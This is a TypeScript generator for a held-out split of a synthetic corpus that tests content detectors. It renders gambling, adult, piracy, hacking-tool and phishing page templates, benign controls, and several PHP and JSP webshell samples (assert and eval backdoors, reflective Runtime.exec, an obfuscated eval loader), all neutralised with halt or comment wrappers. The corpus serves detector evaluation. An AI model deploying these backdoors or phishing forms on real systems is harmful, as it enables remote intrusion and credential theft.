/**
 * The "blind" split: a second batch of new archetypes, written after the tuning on train, test and
 * fresh. Its first result is recorded in test/corpus/README.md as measured; the detectors were then
 * widened for the general gaps it showed (so it is no longer blind, and the README says so).
 */
import { zip } from './hacking.ts';
import { list, paragraphs, renderPage } from './html.ts';
import type { Rng } from './rng.ts';
import type { Archetype, Label, Sample } from './types.ts';

const B = (id: string, label: Label, count: number, make: (rng: Rng, i: number) => Sample): Archetype => ({
  id: `blind-${id}`,
  label,
  heldOut: true,
  count,
  make,
});
const page = (ext: string, content: string): Sample => ({ ext, content });
const PHP_HEAD = '<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>\n';
const jsp = (s: string) => `<%-- hegui corpus: inert sample - a JSP comment is never compiled\n${s}\n--%>\n`;

export const BLIND: Archetype[] = [
  // ---- gambling
  B('slots-landing-en', 'gambling', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: `${rng.pick(['SpinCity', 'MegaReels', 'GoldRush'])} - Spin & Win`,
        nav: ['Slots', 'Jackpots', 'Live', 'Cashier'],
        sections: [
          `<h1>${rng.int(100, 500)} Free Spins + No Deposit Bonus</h1>`,
          list(rng, [
            'Mega Moolah progressive jackpot',
            'Starburst',
            'Gonzo’s Quest',
            'Instant cash out in 10 minutes',
          ]),
          '<button>Spin now</button> <a href="/register">Create account</a>',
        ],
        footer: 'Play responsibly. 18+',
      }),
    ),
  ),
  B('baccarat-room-zh', 'gambling', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: `百家乐 ${rng.int(1, 9)}号桌`,
        nav: ['大厅', '百家乐', '龙虎', '轮盘', '充值'],
        sections: [
          `<div class="road">大路 珠盘路 大眼仔</div>`,
          `<div class="chips">${[10, 100, 500, 1000, 5000].map((c) => `<button class="chip" data-v="${c}">${c}</button>`).join('')}</div>`,
          '<div class="bet-area"><div>庄 1:0.95</div><div>闲 1:1</div><div>和 1:8</div><div>庄对 1:11</div></div>',
          `<p>余额：${rng.int(100, 99999)} <button>确认下注</button> <button>取消</button></p>`,
        ],
        footer: '真人荷官实时发牌',
      }),
    ),
  ),
  B('mark-six-tw', 'gambling', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-TW',
        title: '六合彩線上下注 - 特碼賠率47倍',
        nav: ['特碼', '正碼', '生肖', '開獎結果'],
        sections: [
          `<table>${Array.from({ length: 8 }, (_, i) => `<tr><td>${String(i + 1).padStart(2, '0')}</td><td>賠率 ${rng.pick(['47', '46.5', '48'])}</td><td><input name="money_${i}"></td></tr>`).join('')}</table>`,
          '<p>每期截止前5分鐘停止下注，派彩即時到帳，儲值享2%回饋</p><button>確認下注</button>',
        ],
        footer: '線上六合彩',
      }),
    ),
  ),
  B('crypto-casino-en', 'gambling', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: `${rng.pick(['Stakey', 'Rollbit-like', 'BitDice'])} | Crypto Casino`,
        nav: ['Casino', 'Sports', 'Crash', 'Dice', 'VIP'],
        sections: [
          '<h1>Provably fair crypto casino</h1>',
          list(rng, ['Crash', 'Plinko', 'Dice', 'Mines', 'Live roulette']),
          '<p>Deposit BTC, ETH or USDT. Wager to unlock rakeback. Weekly reload bonus for VIP players.</p><a>Sign up</a>',
        ],
        footer: 'Curacao licence',
      }),
    ),
  ),
  B('agent-backoffice-zh', 'gambling', 3, (rng) =>
    page(
      'php',
      renderPage(rng, {
        lang: 'zh-CN',
        title: '代理后台 - 报表中心',
        nav: ['下级会员', '团队报表', '佣金结算', '推广链接'],
        sections: [
          `<table><tr><th>会员</th><th>有效投注</th><th>输赢</th><th>返水</th></tr>${Array.from({ length: 6 }, () => `<tr><td>${rng.word(6)}</td><td>${rng.int(1000, 99999)}</td><td>${rng.int(-9999, 9999)}</td><td>${rng.int(1, 999)}</td></tr>`).join('')}</table>`,
          `<p>本月佣金：${rng.int(1000, 50000)} 元，真人/体育/电子分别结算</p>`,
        ],
        footer: '代理中心',
      }),
    ),
  ),
  // ---- pornography
  B('adult-video-page-zh', 'pornography', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: `${rng.word(3).toUpperCase()}-${rng.int(100, 999)} 中文字幕 无码 - 在线播放`,
        nav: ['首页', '中文字幕', '无码', '国产'],
        sections: [
          `<video src="https://cdn.${rng.word(5)}.example/v/${rng.int(1000, 9999)}.m3u8" controls></video>`,
          '<p>标签：无码 巨乳 中文字幕 女优</p>',
          list(
            rng,
            Array.from(
              { length: 6 },
              () => `<a href="/v/${rng.int(1000, 9999)}">相关影片 ${rng.int(1, 999)}</a>`,
            ),
          ),
        ],
        footer: '成人影片 18+',
      }),
    ),
  ),
  B('adult-webcam-zh', 'pornography', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['蜜秀', '夜聊', '花椒'])}直播 - 一对一裸聊`,
        nav: ['热门主播', '一对一', '充值'],
        sections: [
          list(
            rng,
            Array.from({ length: 8 }, () => `主播${rng.int(100, 999)} 在线 ${rng.int(10, 999)}人`),
          ),
          '<p>私密一对一，激情裸聊，充值钻石解锁</p>',
        ],
        footer: '成年人专区',
      }),
    ),
  ),
  B('adult-tube-en-v2', 'pornography', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: 'Free Sex Tube - Amateur, MILF, Teen (18+)',
        nav: ['New', 'Popular', 'Categories'],
        sections: [
          Array.from(
            { length: 12 },
            () =>
              `<div class="thumb"><a href="/watch/${rng.word(8)}"><img src="/t/${rng.int(1, 999)}.jpg"></a><span>${rng.int(2, 40)}:${rng.int(10, 59)}</span></div>`,
          ).join('\n'),
          '<p>Hardcore amateur porn videos updated hourly.</p>',
        ],
        footer: '18 U.S.C. 2257',
      }),
    ),
  ),
  B('adult-novel-zh', 'pornography', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: '成人小说 - 情色文学',
        nav: ['都市激情', '人妻', '校园', '排行'],
        sections: [
          list(
            rng,
            Array.from(
              { length: 10 },
              () => `<a href="/n/${rng.int(100, 9999)}.html">情色小说 第${rng.int(1, 99)}章</a>`,
            ),
          ),
          '<p>本站收录海量成人小说、H文，未满18岁请离开。</p>',
        ],
        footer: '成人文学',
      }),
    ),
  ),
  // ---- fraud
  B('tax-refund-phish-en', 'fraud', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: `${rng.pick(['HMRC', 'IRS', 'CRA'])} - Tax Refund Notification`,
        nav: [],
        sections: [
          `<p>You are eligible to receive a tax refund of ${rng.int(200, 900)}.${rng.int(10, 99)}. Please submit the form below within 48 hours to receive your refund.</p>`,
          `<form action="https://${rng.word(8)}.example/refund.php"><input name="fullname"><input name="dob" placeholder="Date of birth"><input name="ccnum" placeholder="Card number"><input name="cvv2" placeholder="CVV"><input name="ssn" placeholder="National insurance / SSN"><button>Submit</button></form>`,
        ],
        footer: 'Gov',
      }),
    ),
  ),
  B('crypto-giveaway-en', 'fraud', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: `${rng.pick(['Elon', 'Binance', 'Vitalik'])} Official Giveaway - 5,000 BTC`,
        nav: [],
        sections: [
          '<h1>Send 0.1 to 20 BTC and receive double back!</h1>',
          `<p>Send to address: bc1q${rng.word(30)}. Your doubled amount is returned within 30 minutes. Limited time!</p>`,
          '<p>Participants already received: 1,243 BTC</p>',
        ],
        footer: 'Official event',
      }),
    ),
  ),
  B('mobile-bank-phish-zh', 'fraud', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['建设银行', '农业银行', '邮储银行'])}手机银行升级`,
        nav: [],
        sections: [
          '<p>尊敬的客户，您的手机银行将于今日停用，请立即登录完成升级。</p>',
          `<form action="${rng.pick(['login2.php', 'https://m-' + rng.word(5) + '.example/a.php'])}" method="post"><input name="zh" placeholder="登录账号/卡号"><input type="password" name="mm" placeholder="登录密码"><input name="dxm" placeholder="短信验证码"><button>登录升级</button></form>`,
        ],
        footer: '客服热线',
      }),
    ),
  ),
  B('pension-phish-zh', 'fraud', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: '社保卡资格认证 - 人力资源社会保障',
        nav: [],
        sections: [
          '<p>您的社保卡资格认证已逾期，养老金将暂停发放，请立即重新认证。</p>',
          `<form action="http://${rng.word(6)}.example/rz.php"><input name="xm" placeholder="姓名"><input name="sfzh" placeholder="身份证号码"><input name="yhk" placeholder="社保卡银行卡号"><input type="password" name="kmm" placeholder="银行卡密码"><button>立即认证</button></form>`,
        ],
        footer: '社会保障服务',
      }),
    ),
  ),
  B('warrant-fine-en', 'fraud', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: 'Federal Police - Outstanding Warrant',
        nav: [],
        sections: [
          '<h1>ARREST WARRANT</h1>',
          `<p>Case #${rng.int(100000, 999999)}: a warrant has been issued in your name for money laundering. To avoid arrest, pay the settlement fee of $${rng.int(900, 5000)} in gift cards or Bitcoin today.</p>`,
          '<form><input name="name"><input name="phone"><input name="giftcard_code" placeholder="Gift card code"><button>Pay now</button></form>',
        ],
        footer: 'Federal Police',
      }),
    ),
  ),
  // ---- piracy
  B('kdrama-free-en', 'piracy', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: `${rng.pick(['Queen of Tears', 'Moving', 'Crash Landing on You'])} Eng Sub - Watch Free`,
        nav: ['Drama', 'Movies', 'Ongoing'],
        sections: [
          Array.from({ length: 16 }, (_, i) => `<a href="/ep/${i + 1}">Episode ${i + 1}</a>`).join(' '),
          '<p>Watch Korean drama online free with English subtitles in HD. All episodes, no registration.</p>',
        ],
        footer: 'Dramacool-like',
      }),
    ),
  ),
  B('movie-bt-zh', 'piracy', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['奥本海默', '沙丘2', '封神'])} 1080P 中英双字 BT下载`,
        nav: ['最新电影', '高分电影', '电视剧'],
        sections: [
          `<p>◎译名 ◎年代 ◎产地 ◎类别 ◎语言 ◎字幕 中英双字</p>`,
          `<a href="magnet:?xt=urn:btih:${rng.hex(40)}">磁力链接下载</a> <a href="/bt/${rng.hex(10)}.torrent">BT种子下载</a> <a href="thunder://${rng.word(20)}">迅雷下载</a>`,
        ],
        footer: '电影下载',
      }),
    ),
  ),
  B('windows-keys-en', 'piracy', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: 'Windows 11 Pro Product Key Free + Office 2021 Activator',
        nav: ['Windows', 'Office', 'Activators'],
        sections: [
          list(
            rng,
            Array.from(
              { length: 5 },
              () =>
                `${rng.word(5).toUpperCase()}-${rng.word(5).toUpperCase()}-${rng.word(5).toUpperCase()}-${rng.word(5).toUpperCase()}-${rng.word(5).toUpperCase()}`,
            ),
          ),
          '<p>If the keys do not work, download the KMS activator (KMSpico) below.</p>',
          `<a href="/files/${rng.word(6)}.zip">Download activator</a>`,
        ],
        footer: 'Free keys',
      }),
    ),
  ),
  B('manga-scan-zh', 'piracy', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['海贼王', '咒术回战', '电锯人'])} 最新话 免费在线看 - 漫画`,
        nav: ['首页', '连载', '完结', '排行'],
        sections: [
          Array.from({ length: 12 }, (_, i) => `<a href="/c/${i + 1}">第${1100 + i}话</a>`).join(' '),
          '<p>汉化组最新翻译，免费在线阅读，高清无水印</p>',
        ],
        footer: '漫画资源来自网络',
      }),
    ),
  ),
  B('iptv-reseller-en', 'piracy', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: 'Premium IPTV - 20,000 Live Channels + VOD',
        nav: ['Plans', 'Channels', 'Setup'],
        sections: [
          `<p>All sports, PPV events and premium movie channels for $${rng.int(5, 15)}/month. M3U playlist, works on Firestick.</p>`,
          list(rng, ['Sky Sports', 'beIN', 'DAZN', 'HBO', 'All PPV boxing and UFC']),
          '<a>Buy now</a>',
        ],
        footer: 'IPTV',
      }),
    ),
  ),
  // ---- hacking tools
  B('rat-source-zh', 'hacking-tool', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: '远控源码出售 - 免杀上线',
        nav: ['源码', '免杀', '教程'],
        sections: [
          list(rng, [
            'XX远控 完整源码 带生成器',
            '免杀360/火绒/卡巴',
            '上线稳定 支持上千肉鸡',
            '键盘记录、屏幕监控、文件管理',
          ]),
          `<p>价格：${rng.int(500, 3000)}元，联系QQ</p>`,
        ],
        footer: '源码站',
      }),
    ),
  ),
  B('sqli-dumper-en', 'hacking-tool', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: 'SQLi Dumper 10.6 Cracked - Mass SQL Injection Tool',
        nav: ['Tools', 'Combos', 'Tutorials'],
        sections: [
          '<p>Automatic SQL injection scanner and database dumper. Dork searcher, exploiter, combo list generator.</p>',
          `<a href="/dl/${rng.word(6)}.rar">Download cracked</a>`,
        ],
        footer: 'Tools',
      }),
    ),
  ),
  B('tool-archive-blind', 'hacking-tool', 3, (rng, i) => ({
    ext: rng.pick(['zip', 'jar']),
    dir: 'static/files',
    name: `${rng.word(5)}_${rng.int(1, 99)}`,
    content: zip(
      [
        [
          { name: 'exp/CVE-2021-44228-exploit.py', text: 'x' },
          { name: 'exp/private_exploit_rce.py', text: 'x' },
        ],
        [{ name: 'Cobalt_Strike_4.9/cobaltstrike.jar', text: 'x' }],
        [
          { name: 'neo-reGeorg/tunnel.php', text: 'x' },
          { name: 'LaZagne.exe', text: 'x' },
        ],
      ][i % 3]!,
    ),
  })),
  B('raas-en', 'hacking-tool', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: 'RaaS Affiliate Program - Ransomware Builder',
        nav: ['Program', 'Panel', 'Contact'],
        sections: [
          '<p>Join our ransomware affiliate program: builder, negotiation panel, decryptor and leak site included. 80/20 split.</p>',
          '<p>Contact on Tox / Telegram.</p>',
        ],
        footer: 'Affiliates',
      }),
    ),
  ),
  // ---- webshells
  B('ws-strtolower', 'webshell', 2, (rng) => ({
    ext: 'php',
    content: `${PHP_HEAD}<?php\n$f = strtolower('ASSERT');\n$f($_POST['${rng.word(2)}']);\n`,
  })),
  B('ws-implode', 'webshell', 2, (rng) => ({
    ext: 'php',
    content: `${PHP_HEAD}<?php\n$f = implode('', array('as', 'se', 'rt'));\n$f($_GET['${rng.word(2)}']);\n`,
  })),
  B('ws-session-stage', 'webshell', 2, (rng) => ({
    ext: 'php',
    content: `${PHP_HEAD}<?php\nsession_start();\nif (isset($_POST['${rng.word(2)}'])) { $_SESSION['p'] = $_POST['${rng.word(2)}']; }\n@eval($_SESSION['p']);\n`,
  })),
  B('ws-filter-callback', 'webshell', 2, (rng) => ({
    ext: 'php',
    content: `${PHP_HEAD}<?php\nfilter_var($_REQUEST['${rng.word(2)}'], FILTER_CALLBACK, array('options' => 'assert'));\n`,
  })),
  B('ws-jsp-reflect', 'webshell', 2, (rng) => ({
    ext: 'jsp',
    content: jsp(
      `<%\nClass r = Class.forName("java.lang.Runtime");\nObject rt = r.getMethod("getRuntime").invoke(null);\nProcess p = (Process) r.getMethod("exec", String.class).invoke(rt, request.getParameter("${rng.word(2)}"));\nout.print(new java.util.Scanner(p.getInputStream()).useDelimiter("\\\\A").next());\n%>`,
    ),
  })),
  B('ws-o0-obfuscated', 'webshell', 2, () => ({
    ext: 'php',
    content: `${PHP_HEAD}<?php\n$O00OO0=urldecode("%6E1%7A%62%2F%6D%615%5C%76%740%6928%2D%70%78%75%71%79%2A6%6C%72%6B%64%679%5F%65%68%63%73%77%6F4%2B%6637%6A");\n$O00O0O=$O00OO0[3].$O00OO0[6].$O00OO0[33].$O00OO0[30];\n$O0OO00=$O00OO0[33].$O00OO0[10].$O00OO0[24].$O00OO0[10].$O00OO0[24];\n$OO0O00=$O0OO00[0].$O00OO0[18].$O00OO0[3].$O0OO00[0].$O0OO00[1].$O00OO0[24];\neval($O00O0O("JE8wTzAwMD0iT2lZaGRaVXh2VW5ic2psS0ZKR0N3Z0JycnpFbG1jUUFXRFBTeFRwZXVSeU1uZ2thTHRJT0hxVmZvTllJSEZkS3VsakFCUUh4WkZrTFBOYWtnU1dxblhTdlRpZUVwY3lZaHN6V3JWT01EVHdDaD09IjtldmFsKCdQPz4nLiRPMDBPME8oJE8wTzAwMDApKTs="));\n`,
  })),
  // ---- controls
  B('roulette-gamedev', 'benign', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'en',
        title: 'Building a roulette wheel animation in Unity',
        nav: ['Blog', 'Tutorials'],
        sections: [
          paragraphs([
            'In this tutorial we animate a roulette wheel and a ball with physics.',
            'The wheel has 37 pockets; we compute the landing pocket from the final angle.',
            'No real money is involved: this is a demo for a casual game.',
            'Download the sample project from GitHub.',
          ]),
        ],
        footer: 'Dev blog',
      }),
    ),
  ),
  B('esports-news', 'benign', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: 'LPL春季赛：BLG 3:1 击败 JDG',
        nav: ['电竞', '赛程', '战队'],
        sections: [
          paragraphs([
            '本场比赛BLG在第二局完成翻盘。',
            '赛后MVP由中单选手获得。',
            '下一轮BLG将对阵TES。',
            '记者 李华 报道',
          ]),
        ],
        footer: '电竞新闻',
      }),
    ),
  ),
  B('credit-card-apply', 'benign', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['招商银行', '中信银行'])}信用卡在线申请`,
        nav: ['信用卡', '申请进度', '权益'],
        sections: [
          '<form action="/apply/submit" method="post"><input name="name" placeholder="姓名"><input name="idcard" placeholder="身份证号"><input name="mobile" placeholder="手机号"><input name="smscode" placeholder="短信验证码"><button>提交申请</button></form>',
          '<p>审核结果将以短信通知。本行不会以任何理由要求您提供密码。</p>',
        ],
        footer: '银行版权所有',
      }),
    ),
  ),
  B('ugc-video-platform', 'benign', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: '创作者中心 - 上传视频',
        nav: ['首页', '动态', '投稿', '创作中心'],
        sections: [
          list(rng, ['上传视频', '稿件管理', '数据中心', '创作激励']),
          '<p>请上传原创内容，搬运他人作品将被下架。</p>',
        ],
        footer: '视频平台',
      }),
    ),
  ),
  B('antivirus-download', 'benign', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: '火绒安全软件 - 官方下载',
        nav: ['产品', '下载', '病毒库'],
        sections: [
          '<p>查杀木马、后门和远控程序，拦截勒索病毒。</p>',
          '<a href="/download/setup.exe">立即下载</a>',
        ],
        footer: '官方网站',
      }),
    ),
  ),
  B('police-bureau-home', 'benign', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['杭州', '成都'])}市公安局`,
        nav: ['警务公开', '办事服务', '通缉通告', '互动交流'],
        sections: [
          list(rng, [
            '关于公开征集涉黑涉恶犯罪线索的通告',
            '户籍业务办理指南',
            '出入境证件办理',
            '交通违法查询',
          ]),
          '<p>报警求助请拨打110。</p>',
        ],
        footer: '公安局版权所有',
      }),
    ),
  ),
  B('anime-wiki', 'benign', 3, (rng) =>
    page(
      'html',
      renderPage(rng, {
        lang: 'zh-CN',
        title: '葬送的芙莉莲 - 剧集列表 - 动漫百科',
        nav: ['百科', '角色', '剧集'],
        sections: [
          list(
            rng,
            Array.from(
              { length: 10 },
              (_, i) => `第${i + 1}话：${rng.pick(['冒险的结束', '魔法', '重逢', '旅途'])} — 剧情简介`,
            ),
          ),
          '<p>正版播出平台：各大视频网站。</p>',
        ],
        footer: '百科',
      }),
    ),
  ),
  B('php-legit-blind', 'benign', 4, (_rng, i) => ({
    ext: 'php',
    content: [
      `<?php\nnamespace App\\Jobs;\n\nuse Illuminate\\Bus\\Queueable;\nuse Illuminate\\Contracts\\Queue\\ShouldQueue;\n\nclass SendReport implements ShouldQueue\n{\n    use Queueable;\n\n    public function __construct(private int $userId) {}\n\n    public function handle(): void\n    {\n        $user = \\App\\Models\\User::findOrFail($this->userId);\n        \\Mail::to($user)->send(new \\App\\Mail\\Report($user));\n    }\n}\n`,
      `<?php\nadd_shortcode('latest_posts', function ($atts) {\n    $atts = shortcode_atts(['count' => 5], $atts);\n    $q = new WP_Query(['posts_per_page' => (int) $atts['count']]);\n    $out = '<ul>';\n    while ($q->have_posts()) { $q->the_post(); $out .= '<li>' . esc_html(get_the_title()) . '</li>'; }\n    wp_reset_postdata();\n    return $out . '</ul>';\n});\n`,
      `<?php\nuse PHPUnit\\Framework\\TestCase;\n\nfinal class MathTest extends TestCase\n{\n    public function testAdd(): void\n    {\n        $this->assertSame(4, 2 + 2);\n        $this->assertTrue(is_callable('strlen'));\n    }\n}\n`,
      `<?php\nnamespace App\\Command;\n\nuse Symfony\\Component\\Console\\Command\\Command;\nuse Symfony\\Component\\Process\\Process;\n\nclass BackupCommand extends Command\n{\n    protected function execute($input, $output): int\n    {\n        $process = new Process(['tar', '-czf', '/backup/site.tgz', '/var/www/site']);\n        $process->run();\n        return $process->isSuccessful() ? Command::SUCCESS : Command::FAILURE;\n    }\n}\n`,
    ][i % 4]!,
  })),
];
